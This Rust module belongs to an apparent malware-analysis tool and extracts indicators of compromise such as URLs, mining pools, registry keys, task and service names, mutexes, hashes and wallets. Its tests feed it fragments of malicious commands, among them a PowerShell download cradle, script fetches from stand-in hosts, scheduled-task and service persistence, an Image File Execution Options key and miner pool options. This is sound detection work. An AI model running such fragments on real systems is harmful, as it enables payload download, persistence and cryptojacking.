//! Facts that can be searched for elsewhere: addresses, wallets, paths, names, hashes.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use crate::model::{Indicator, IndicatorKind as Kind};
use crate::pool;
use crate::scan::{Needle as N, Scan};
use crate::wallet;

macro_rules! patterns {
    ($($name:ident = $text:expr;)*) => {
        $(static $name: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new($text).ok());)*

        #[cfg(test)]
        mod compiled {
            #[test]
            fn every_pattern_compiles() {
                $(assert!(super::$name.is_some(), stringify!($name));)*
            }
        }
    };
}

patterns! {
    URL = r#"(?i)\b(?P<scheme>https?|ftp|(?:eth)?stratum[12]?(?:\+(?:tcp|ssl|udp|tls|wss?))?|daemon\+https?)://(?P<rest>(?:\[[0-9a-f:.]{2,45}\])?[^\s"'<>`|)\]};,^\\“”‘’]*)"#;
    IPV4 = r"\b(\d{1,3}(?:\.\d{1,3}){3})\b(?::(\d{1,5})\b)?";
    IPV6 = r"(?i)\[((?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4})\](?::(\d{1,5})\b)?";
    IPV6_BARE = r#"(?i)(?:^|[\s"'=,(])((?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{1,4})(?:[\s"',)]|$)"#;
    HOST = r#"(?i)(?:^|[\s"',=;@(>])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:com|net|org|info|biz|top|club|xyz|pw|ru|cn|io|ir|ga|tk|ml|cf|gq|us|la|cc|site|online|pro|eu|de|uk|jp|kr|fr|in|br|ua|su|ws|me|host|space|website|tech|store|live|icu|vip|nl|pl|it|es|ca|au|tw|hk|vn|onion))(?::(\d{2,5})\b|["',;\s/)<]|$)"#;
    HOST_QUOTED = r#"(?i)["']((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:dev|app|win|bid|loan|life|cloud|download|stream|link|cyou|sbs|click|to|ch|se|cz|ro|moe|sh|world|zone|work|network|services|rest|today|fun|asia|mobi|be|at|dk|gr|pt|hu|kz|by|tr|mx|th|nz|lt|lv|ee|sk|rs|bg|ly|ai|gg|im|press|quest|lol|pics|buzz|ltd|date|men))(?::(\d{2,5}))?["'/]"#;
    POOL_OPTION = r#"(?i)\s(?:-o|--url)[\s=]+["']?([a-z0-9][a-z0-9.-]*\.[a-z0-9-]+:\d{2,5})\b"#;
    POOL_KEY = r#"(?i)["']url\\?["']{1,2}\s*:\s*\\?["']{1,2}([a-z0-9][a-z0-9.-]*\.[a-z0-9-]+:\d{2,5})\\?["']"#;
    PATH = r#"(?i)(?:\b[a-z]:\\|%[a-z_()0-9]{2,30}%\\|\$(?:env:[a-z_()0-9]{2,30}|\{env:[a-z_()0-9]{2,30}\})\\|\\\\[a-z0-9][a-z0-9_.-]{0,60}\\)[^\s"'<>|:*?;,()\r\n`“”‘’]+(?: [^\s"'<>|:*?;,()\r\n`\\/-]+(?:\\[^\s"'<>|:*?;,()`]+|\.[a-z0-9]{2,4}\b))*"#;
    REGISTRY = r#"(?i)\b(?:HKLM|HKCU|HKCR|HKU|HKEY_(?:LOCAL_MACHINE|CURRENT_USER|CLASSES_ROOT|USERS|CURRENT_CONFIG))(?::?\\+|:(?:SOFTWARE|SYSTEM)\\)[^\s"'<>|;,)`\]]+(?: [A-Z][^\s"'<>|;,)`\]\\]*\\[^\s"'<>|;,)`\]]+)*"#;
    REGISTRY_QUOTED = r#"(?i)(?:"((?:HKLM|HKCU|HKCR|HKU|HKEY_(?:LOCAL_MACHINE|CURRENT_USER|CLASSES_ROOT|USERS|CURRENT_CONFIG)):?\\+[^"\r\n<>|;]{1,400})"|'((?:HKLM|HKCU|HKCR|HKU|HKEY_(?:LOCAL_MACHINE|CURRENT_USER|CLASSES_ROOT|USERS|CURRENT_CONFIG)):?\\+[^'\r\n<>|;]{1,400})')"#;
    TASK = r#"(?i)(?:/tn|-taskname)[\s:]+(?:\\?"([^"\r\n]{1,200}?)\\?"|'([^'\r\n]{1,200})'|([^\s"';,|&)]{1,200}))"#;
    TASK_CALL = r#"(?i)(?:\.(?:registertaskdefinition|deletetask|registertask|gettask)\s*\(\s*['"]([^'"\r\n]{1,200})['"]|\b(?:un)?register-scheduledtask\s+(?:'([^'\r\n]{1,200})'|"([^"\r\n]{1,200})"|([^\s"';,|&)$@(-][^\s"';,|&)]{0,199})))"#;
    SERVICE_USE = r#"(?i)(?:\bnet1?(?:\.exe)?["']?\s+(?:stop|start|pause)\s+|\b(?:stop|start|set|restart|suspend|remove)-service\s+(?:-name\s+)?|\bnew-service\s[^\r\n;|]{0,300}?-name\s+|\bnssm(?:\.exe)?["']?\s+(?:install|remove|start|stop|set)\s+|\bservice\s+where\s+\(?["']?name\s*=\s*\\?)(?:"([^"\r\n]{1,120})"|'([^'\r\n]{1,120})'|([^\s"';,|&)$@(/-][^\s"';,|&)]{0,120}))"#;
    SERVICE = r#"(?i)(?:\bsc(?:\.exe)?\s+(?:\\\\\S+\s+)?(?:create|config|stop|start|delete|failure)|\bnew-service\s+(?:-name\s+)?)\s*(?:"([^"\r\n]{1,120})"|'([^'\r\n]{1,120})'|([^\s"';,|&)-][^\s"';,|&)]{0,120}))"#;
    MUTEX = r#"(?i)(?:\bmutex|createmutex[aw]?|openmutex[aw]?)\b[^'"\r\n]{0,80}['"]([^'"\r\n]{2,120})['"]|['"](global\\[^'"\r\n]{2,120})['"]"#;
    AGENT = r#"(?i)user-?agent['"]?\s*\]?\s*(?:,|=|:|\)?\s*=)?\s*['"]([^'"\r\n]{3,300})['"]"#;
    AGENT_BARE = r#"(?i)(?:\s-useragent\s+|\buser-agent:\s*)([^\s'"$(][^'"\r\n]{2,300}?)(?:['"\r\n]|\s+-[a-z]|$)"#;
    AGENT_CURL = r#"(?i)\bcurl(?:\.exe)?\s[^\r\n|&]{0,300}?(?:-A|--user-agent)\s+['"]([^'"\r\n]{3,300})['"]"#;
    WMI = r"(?i)\b(root(?:[\\/]+[a-z0-9_]+){1,4}:[a-z_][a-z0-9_]{1,120})\b";
    HEX = r"\b(?:[0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})\b";
    TOKEN = r"(?:\b|_)(?:([1-9A-HJ-NP-Za-km-z]{25,106}|bc1[0-9a-z]{11,71}|BC1[0-9A-Z]{11,71}|0x[0-9a-fA-F]{40}))(?:\b|_)";
}

/// Most places that one pattern is looked at in one layer.
const MAX_MATCHES: usize = 50_000;

/// First labels of dotted names that are programs' namespaces and objects, not hosts.
const NAMESPACES: &[&str] = &[
    "system",
    "microsoft",
    "wscript",
    "net",
    "io",
    "asp",
    "adodb",
    "vb",
    "windows",
    "security",
    "text",
    "this",
];

/// Collects indicators of one layer after another, each once.
#[derive(Debug)]
pub(crate) struct Collector {
    found: Vec<Indicator>,
    limit: usize,
    /// Whether some were left out because there were too many.
    pub(crate) full: bool,
}

impl Collector {
    pub(crate) fn new(limit: usize) -> Self {
        Self { found: Vec::new(), limit, full: false }
    }

    /// The indicators, sorted by kind and value, each with the first layer that shows it.
    pub(crate) fn finish(mut self) -> Vec<Indicator> {
        self.found.sort();
        self.found.dedup_by(|b, a| a.kind == b.kind && a.value == b.value);
        self.found
    }

    /// Whether an indicator of the kind is there.
    pub(crate) fn has(&self, kind: Kind) -> Option<&Indicator> {
        self.found.iter().find(|indicator| indicator.kind == kind)
    }

    fn add(&mut self, kind: Kind, value: &str, layer: usize) {
        let value = value.trim();
        if value.is_empty() || value.len() > 4096 {
            return;
        }
        if self.found.len() >= self.limit {
            self.full = true;
        } else if !self.found.iter().rev().take(64).any(|known| known.kind == kind && known.value == value) {
            self.found.push(Indicator { kind, value: value.to_owned(), layer });
        }
    }

    /// Looks over one layer.
    pub(crate) fn read(&mut self, text: &str, scan: &Scan, layer: usize) {
        if scan.has(N::SchemeSep) {
            each(&URL, text, |captures| self.url(captures, layer));
        }
        if text.contains(['.', ':']) {
            self.addresses(text, layer);
        }
        if scan.any(&[
            N::Donate,
            N::NiceHash,
            N::RandomX,
            N::CryptoNight,
            N::Algo,
            N::AlgoShort,
            N::Coin,
            N::CpuThreads,
            N::MaxCpu,
        ]) {
            each(&POOL_OPTION, text, |captures| self.add(Kind::Pool, &captures[1], layer));
            each(&POOL_KEY, text, |captures| self.add(Kind::Pool, &captures[1], layer));
        } else if scan.any(&[N::PoolOption, N::UrlOption, N::UrlKey]) {
            for login in pool::logins(text) {
                if login.mines {
                    self.add(Kind::Pool, login.pool, layer);
                }
            }
        }
        self.system_names(text, scan, layer);
        if has_long_word(text) {
            each(&TOKEN, text, |captures| self.wallet(&captures[1], layer));
            each(&HEX, text, |captures| self.hash(&captures[0], layer));
        }
    }

    fn url(&mut self, captures: &Captures<'_>, layer: usize) {
        let scheme = captures["scheme"].to_ascii_lowercase();
        let rest = captures["rest"].trim_end_matches(['.', ':', '!', '*', '&', '\'']);
        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
        if authority.is_empty()
            || authority.starts_with(['$', '%', '{'])
            || !authority.bytes().any(|c| c.is_ascii_alphanumeric())
        {
            return;
        }
        self.add(Kind::Url, &format!("{scheme}://{rest}"), layer);
        let host_port = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
        let (host, port) = match host_port.rsplit_once(':') {
            Some((host, port)) if port.bytes().all(|c| c.is_ascii_digit()) && !port.is_empty() => {
                (host, Some(port))
            }
            _ => (host_port, None),
        };
        if scheme.contains("stratum") || scheme.starts_with("daemon") {
            self.add(Kind::Pool, host_port, layer);
        }
        if port.is_some() {
            self.add(Kind::Endpoint, host_port, layer);
        }
        if is_ipv4(host) {
            self.add(Kind::Ipv4, host, layer);
        } else if host.starts_with('[') {
            let inside = host.trim_matches(['[', ']']);
            if inside.parse::<std::net::Ipv6Addr>().is_ok() {
                self.add(Kind::Ipv6, &inside.to_ascii_lowercase(), layer);
            }
        } else if host.contains('.')
            && host.bytes().any(|c| c.is_ascii_alphabetic())
            && host.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-')
        {
            self.add(Kind::Domain, &host.to_ascii_lowercase(), layer);
        }
    }

    fn addresses(&mut self, text: &str, layer: usize) {
        each(&IPV4, text, |captures| {
            let host = &captures[1];
            if is_ipv4(host) && !is_version(text, captures.get(0).map_or(0, |m| m.start())) {
                self.add(Kind::Ipv4, host, layer);
                if let Some(port) = captures.get(2).filter(|port| is_port(port.as_str())) {
                    self.add(Kind::Endpoint, &format!("{host}:{}", port.as_str()), layer);
                }
            }
        });
        each(&HOST, text, |captures| self.host(captures, layer));
        // Endings that are words of programs as well.
        each(&HOST_QUOTED, text, |captures| self.host(captures, layer));
        if text.contains("::") || text.matches(':').nth(6).is_some() {
            each(&IPV6_BARE, text, |captures| {
                // Two groups are a name of another language's; times have no letters and two colons.
                let groups = captures[1].split(':').filter(|group| !group.is_empty()).count();
                if groups >= 3 && captures[1].parse::<std::net::Ipv6Addr>().is_ok() {
                    self.add(Kind::Ipv6, &captures[1].to_ascii_lowercase(), layer);
                }
            });
        }
        if text.contains('[') && text.contains("]:") {
            each(&IPV6, text, |captures| {
                if captures[1].parse::<std::net::Ipv6Addr>().is_ok() {
                    self.add(Kind::Ipv6, &captures[1].to_ascii_lowercase(), layer);
                    if let Some(port) = captures.get(2) {
                        self.add(Kind::Endpoint, &format!("[{}]:{}", &captures[1], port.as_str()), layer);
                    }
                }
            });
        }
    }

    fn host(&mut self, captures: &Captures<'_>, layer: usize) {
        let host = captures[1].to_ascii_lowercase();
        let first = host.split('.').next().unwrap_or_default();
        if NAMESPACES.contains(&first) {
            return;
        }
        if let Some(port) = captures.get(2).filter(|port| is_port(port.as_str())) {
            self.add(Kind::Endpoint, &format!("{host}:{}", port.as_str()), layer);
        }
        self.add(Kind::Domain, &host, layer);
    }

    fn system_names(&mut self, text: &str, scan: &Scan, layer: usize) {
        if scan.any(&[N::Backslash, N::EnvPath, N::EnvBrace, N::Percent, N::UncOrEsc]) {
            each(&PATH, text, |captures| {
                let start = captures.get(0).map_or(0, |whole| whole.start());
                let before = text.get(..start).and_then(|t| t.chars().next_back());
                let path = single_backslashes(captures[0].trim_end_matches(['.', '&', '\\', '\'']));
                // Two backslashes after a drive's colon or a word are one, doubled; they begin no share.
                let inside =
                    path.starts_with('\\') && before.is_some_and(|c| c == ':' || c.is_alphanumeric());
                if path.len() > 4 && !inside {
                    self.add(Kind::FilePath, &path, layer);
                }
            });
        }
        if scan.has(N::Hkey) {
            let mut quoted = Vec::new();
            each(&REGISTRY_QUOTED, text, |captures| {
                if let Some(key) = captures.iter().skip(1).flatten().next() {
                    quoted.push(key.start());
                    self.add(
                        Kind::RegistryKey,
                        &single_backslashes(key.as_str().trim_end_matches('\\')),
                        layer,
                    );
                }
            });
            each(&REGISTRY, text, |captures| {
                if captures.get(0).is_some_and(|key| quoted.binary_search(&key.start()).is_ok()) {
                    return;
                }
                self.add(Kind::RegistryKey, &single_backslashes(captures[0].trim_end_matches('\\')), layer);
            });
        }
        if scan.any(&[N::TaskNameOption, N::TaskNameParam]) {
            each(&TASK, text, |captures| self.add(Kind::TaskName, first_group(captures), layer));
        }
        if scan.has(N::ScExe) || scan.has(N::NewService) {
            each(&SERVICE, text, |captures| self.add(Kind::ServiceName, first_group(captures), layer));
        }
        if scan.any(&[N::RegisterTask, N::RegisterTaskDef, N::DeleteTask]) {
            each(&TASK_CALL, text, |captures| self.add(Kind::TaskName, first_group(captures), layer));
        }
        if scan.any(&[N::NetUse, N::ServiceWord, N::Nssm]) {
            each(&SERVICE_USE, text, |captures| self.add(Kind::ServiceName, first_group(captures), layer));
        }
        if scan.any(&[N::Mutex, N::GlobalObject]) {
            each(&MUTEX, text, |captures| self.add(Kind::Mutex, first_group(captures), layer));
        }
        if scan.any(&[N::UserAgent, N::Agent2]) {
            each(&AGENT, text, |captures| self.add(Kind::UserAgent, &captures[1], layer));
            each(&AGENT_BARE, text, |captures| self.add(Kind::UserAgent, &captures[1], layer));
        }
        if scan.has(N::Curl) {
            each(&AGENT_CURL, text, |captures| self.add(Kind::UserAgent, &captures[1], layer));
        }
        if scan.has(N::RootNs) {
            each(&WMI, text, |captures| self.add(Kind::WmiClass, &captures[1], layer));
        }
    }

    fn wallet(&mut self, token: &str, layer: usize) {
        if wallet::monero(token).is_some() {
            self.add(Kind::MoneroAddress, token, layer);
        } else if wallet::bitcoin(token).is_some() {
            self.add(Kind::BitcoinAddress, token, layer);
        } else if wallet::ethereum(token) == Some(wallet::EthereumKind::Checksummed) {
            self.add(Kind::EthereumAddress, token, layer);
        }
    }

    fn hash(&mut self, digits: &str, layer: usize) {
        let distinct = digits.bytes().fold(0_u128, |set, c| set | 1 << (c & 0x7f)).count_ones();
        if distinct < 6 || digits.bytes().all(|c| c.is_ascii_digit()) {
            return;
        }
        let kind = match digits.len() {
            32 => Kind::Md5,
            40 => Kind::Sha1,
            _ => Kind::Sha256,
        };
        self.add(kind, &digits.to_ascii_lowercase(), layer);
    }
}

fn each(pattern: &LazyLock<Option<Regex>>, text: &str, mut found: impl FnMut(&Captures<'_>)) {
    if let Some(pattern) = pattern.as_ref() {
        for captures in pattern.captures_iter(text).take(MAX_MATCHES) {
            found(&captures);
        }
    }
}

fn first_group<'t>(captures: &Captures<'t>) -> &'t str {
    captures.iter().skip(1).flatten().next().map_or("", |group| group.as_str())
}

/// A path whose backslashes are doubled, as they are inside other languages' strings, as it is meant.
fn single_backslashes(path: &str) -> String {
    let share = if path.starts_with(r"\\") { r"\\" } else { "" };
    let rest = path.trim_start_matches('\\');
    let rest = if share.is_empty() { path } else { rest };
    format!("{share}{}", rest.replace(r"\\", r"\"))
}

fn is_port(text: &str) -> bool {
    text.parse::<u16>().is_ok_and(|port| port != 0)
}

/// A public or private unicast address; not loopback, masks and the like.
fn is_ipv4(text: &str) -> bool {
    text.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
        let first = ip.octets()[0];
        first != 0 && first < 224 && !ip.is_loopback()
    })
}

/// Whether the dotted number after this place is a program's version: `Version=`, `v`, `/` directly before.
fn is_version(text: &str, at: usize) -> bool {
    let before = text
        .get(text.floor_char_boundary(at.saturating_sub(12))..at)
        .unwrap_or_default()
        .to_ascii_lowercase();
    before.trim_end_matches(['"', '\'', '=', ' ', ':']).ends_with("version")
        || before.ends_with(['v', '/', '.']) && !before.ends_with("//")
}

/// Whether any run of letters and digits is long enough for a hash or wallet.
fn has_long_word(text: &str) -> bool {
    let mut run = 0;
    text.bytes().any(|c| {
        run = if c.is_ascii_alphanumeric() { run + 1 } else { 0 };
        run >= 25
    })
}

#[cfg(test)]
#[allow(clippy::print_stdout, reason = "tests say which of their forms failed")]
mod tests {
    use super::*;

    fn of(text: &str) -> Vec<String> {
        let mut collector = Collector::new(100);
        collector.read(text, &Scan::of(text), 0);
        collector.finish().into_iter().map(|i| format!("{}={}", i.kind.as_str(), i.value)).collect()
    }

    #[test]
    fn addresses() {
        assert_eq!(
            of("(New-Object Net.WebClient).DownloadString('http://a.example.com:8000/in.ps1')"),
            ["url=http://a.example.com:8000/in.ps1", "domain=a.example.com", "endpoint=a.example.com:8000"]
        );
        assert_eq!(
            of("-o stratum+tcp://pool.example.org:3333 -u x"),
            [
                "url=stratum+tcp://pool.example.org:3333",
                "domain=pool.example.org",
                "endpoint=pool.example.org:3333",
                "pool=pool.example.org:3333"
            ]
        );
        assert_eq!(
            of("$se=@('203.0.113.7','update.example.club')"),
            ["domain=update.example.club", "ipv4=203.0.113.7"]
        );
        assert_eq!(
            of("[System.Net.Dns] Version=10.0.19041.1 127.0.0.1 255.255.255.0 System.Net"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn names_on_the_machine() {
        assert_eq!(
            of(r#"schtasks /create /tn "\Micro\Up" /tr c:\windows\temp\a.exe"#),
            ["file-path=c:\\windows\\temp\\a.exe", "task-name=\\Micro\\Up"]
        );
        assert_eq!(of("sc create WinRing0_1_2_0 binPath= x"), ["service-name=WinRing0_1_2_0"]);
        assert_eq!(
            of("New-Object Threading.Mutex($true,'Global\\LocalX',[ref]$f)"),
            ["mutex=Global\\LocalX"]
        );
        assert_eq!(
            of("([WmiClass] 'root\\default:Win32_Services')"),
            ["wmi-class=root\\default:Win32_Services"]
        );
        assert_eq!(of("reg add HKLM\\SOFTWARE\\X\\Run /v y"), ["registry-key=HKLM\\SOFTWARE\\X\\Run"]);
        assert_eq!(of("$w.Headers.Add('User-Agent','Agent-7-x')"), ["user-agent=Agent-7-x"]);
    }

    /// Every way in which a thing is written; the first is the text, the rest is what has to be found in it.
    #[test]
    fn every_spelling() {
        let table: &[(&str, &[&str])] = &[
            (
                "iwr http://[2001:db8::7]:8080/b.ps1",
                &["url=http://[2001:db8::7]:8080/b.ps1", "ipv6=2001:db8::7", "endpoint=[2001:db8::7]:8080"],
            ),
            ("iwr http://[2001:db8::7]/b.ps1", &["url=http://[2001:db8::7]/b.ps1", "ipv6=2001:db8::7"]),
            ("ping 2001:db8:0:1::25", &["ipv6=2001:db8:0:1::25"]),
            ("$t='fe80::1ff:fe23:4567:890a'", &["ipv6=fe80::1ff:fe23:4567:890a"]),
            ("$d='c2.example-one.dev'", &["domain=c2.example-one.dev"]),
            ("'a.example.cloud','b.example.bid'", &["domain=a.example.cloud", "domain=b.example.bid"]),
            ("$w.Headers['User-Agent']='Agent-7'", &["user-agent=Agent-7"]),
            ("iwr x -UserAgent Agent-7 -OutFile y", &["user-agent=Agent-7"]),
            ("User-Agent: Agent-7 (x)\r\nHost: y", &["user-agent=Agent-7 (x)"]),
            ("curl -s -A \"Agent-7\" x", &["user-agent=Agent-7"]),
            ("curl -H \"User-Agent: Agent-7\" x", &["user-agent=Agent-7"]),
            ("Register-ScheduledTask Night -Action $a", &["task-name=Night"]),
            ("$f.RegisterTaskDefinition('Night',$d,6)", &["task-name=Night"]),
            ("$f.DeleteTask(\"Night\",0)", &["task-name=Night"]),
            ("net stop Night", &["service-name=Night"]),
            ("net1 start \"Night Watch\"", &["service-name=Night Watch"]),
            ("Stop-Service -Name Night -Force", &["service-name=Night"]),
            ("Set-Service Night -StartupType Disabled", &["service-name=Night"]),
            ("New-Service -BinaryPathName x -Name Night", &["service-name=Night"]),
            ("wmic service where name='Night' delete", &["service-name=Night"]),
            ("nssm install Night x.exe", &["service-name=Night"]),
            ("CreateMutexA(0, 0, \"Local\\Night\")", &["mutex=Local\\Night"]),
            (
                r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe" /v x"#,
                &[
                    r"registry-key=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\a.exe",
                ],
            ),
            (r"gp HKLM:SOFTWARE\X", &[r"registry-key=HKLM:SOFTWARE\X"]),
            (r"start ${env:TEMP}\a.ps1", &[r"file-path=${env:TEMP}\a.ps1"]),
            (
                "-u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A_w1",
                &[
                    "monero-address=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                ],
            ),
            (
                "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",
                &["bitcoin-address=BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4"],
            ),
            (
                "E3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                &["sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
            ),
        ];
        let mut failed = 0;
        for (text, wanted) in table {
            let found = of(text);
            for wanted in *wanted {
                if !found.iter().any(|found| found == wanted) {
                    println!("{wanted:?} is not in {found:?} of {text}");
                    failed += 1;
                }
            }
        }
        assert_eq!(failed, 0, "indicators that are not found");
        for text in ["[IO.File]::ReadAllText; a::b; 12:34:56", "00:11:22:33:44:55", "std::io::x", "$a[1::2]"]
        {
            assert!(!of(text).iter().any(|found| found.starts_with("ipv6")), "{text}: {:?}", of(text));
        }
        for text in [
            "net use x: \\\\a\\b",
            "Get-Service x",
            "net start",
            "Stop-Service $name",
            "Register-ScheduledTask @args",
        ] {
            assert!(
                !of(text).iter().any(|i| i.starts_with("service") || i.starts_with("task")),
                "{text}: {:?}",
                of(text)
            );
        }
    }

    #[test]
    fn paths_are_as_they_are_meant() {
        assert_eq!(of(r#"x("C:\\Windows\\a.exe")"#), [r"file-path=C:\Windows\a.exe"]);
        assert_eq!(of(r"copy \\server\share\a.exe"), [r"file-path=\\server\share\a.exe"]);
        assert_eq!(of(r"HKCU:\\Software\\X"), [r"registry-key=HKCU:\Software\X"]);
        assert_eq!(of("(\u{201d}$env:APPDATA\\a.exe\u{201d})"), [r"file-path=$env:APPDATA\a.exe"]);
        assert_eq!(of("http://10.10.01.10/x"), ["url=http://10.10.01.10/x"]);
    }

    #[test]
    fn hashes_need_to_look_random() {
        assert_eq!(of("11bd2c9f9e2397c9a16e0990e4ed2cf0679498fe0fd418a3dfdac60b5c160ee5").len(), 1);
        assert!(of(&"ab".repeat(16)).is_empty());
        assert!(of(&"1234567890".repeat(4)).is_empty());
    }
}
